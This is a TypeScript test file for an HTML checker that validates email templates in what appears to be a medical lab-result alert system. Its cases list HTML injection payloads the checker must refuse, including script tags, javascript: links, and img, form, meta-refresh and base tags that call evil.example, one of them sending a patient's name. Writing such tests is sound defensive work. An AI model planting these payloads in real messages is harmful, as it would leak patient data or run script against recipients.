import { MESSAGE_LANGUAGES, MESSAGE_PURPOSES } from '@critical-callout/domain/delivery';
import { expect, test } from 'vitest';
import { builtInTemplate } from './built-in.ts';
import { checkHtml } from './html-check.ts';

test.each([
  ['<p>{{ labName }}</p>\n<script>1</script>', 2, 'the element script'],
  ['<img src="https://evil.example/?{{ patientName }}">', 1, 'the element img'],
  ['<p onclick="x">a</p>', 1, 'the attribute onclick of p'],
  ['<p style="background:url(//evil.example)">a</p>', 1, 'this style is not allowed'],
  ['<p style="display: none">a</p>', 1, 'this style is not allowed'],
  ['<p style="color:{{ comment }}">a</p>', 1, 'no variable or tag may stand in the attribute style'],
  ['<p title="{{ comment }}">a</p>', 1, 'no variable or tag may stand in the attribute title'],
  ['<p {{ comment }}>a</p>', 1, 'the attribute {{ }} of p'],
  ['<p {% if link %}dir="rtl"{% endif %}>a</p>', 1, 'the attribute'],
  ['<{{ comment }}>a', 1, 'a < that begins no element'],
  ['</{{ comment }}>a', 1, 'comments are not allowed'],
  ['a\n{% if link %}<{% endif %}script>', 2, 'a < that begins no element'],
  ['<b{{ comment }}>a', 1, 'the element b{{ }}'],
  ['<p title="{{ comment }}', 1, 'a < that begins no element'],
  ['<a href="{{ comment }}">a</a>', 1, 'a link is {{ link }} as a whole'],
  ['<a href="javascript:{{ link }}">a</a>', 1, 'a link is {{ link }} as a whole'],
  ['<a href={{ link }}>a</a>', 1, 'stands in quotes'],
  ['<a href="javascript:alert(1)">a</a>', 1, 'a link leads to https'],
  ['<a href="java&#115;cript:alert(1)">a</a>', 1, 'a link leads to https'],
  ['<a href="http://plain.example">a</a>', 1, 'a link leads to https'],
  ['\n\n<!-- x -->', 3, 'comments are not allowed'],
  ['<style>*{display:none}</style>', 1, 'the element style'],
  ['<form action="https://evil.example"><input name="p"></form>', 1, 'the element form'],
  ['<svg><a xlink:href="javascript:1">a</a></svg>', 1, 'the element svg'],
  ['<iframe srcdoc="x"></iframe>', 1, 'the element iframe'],
  ['<meta http-equiv="refresh" content="0;url=//evil.example">', 1, 'the attribute http-equiv of meta'],
  ['<base href="//evil.example">', 1, 'the element base'],
])('%j is refused', (source, line, message) => {
  expect(checkHtml(source)[0]).toMatchObject({ line, message: expect.stringContaining(message) });
});

test('the link as a whole, addresses and plain markup are taken', () => {
  const source = `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>{{ labName }}</title></head><body style="color:#000">
<p>{% if hasValues %}<a href="{{ link }}">{{ labName }}</a>{% endif %} <a href="tel:+442079460000">call</a></p><br></body></html>`;
  expect(checkHtml(source)).toEqual([]);
});

test('every built-in mail passes', () => {
  for (const language of MESSAGE_LANGUAGES)
    for (const purpose of MESSAGE_PURPOSES) expect(checkHtml(builtInTemplate('email', language, purpose).parts.html)).toEqual([]);
});
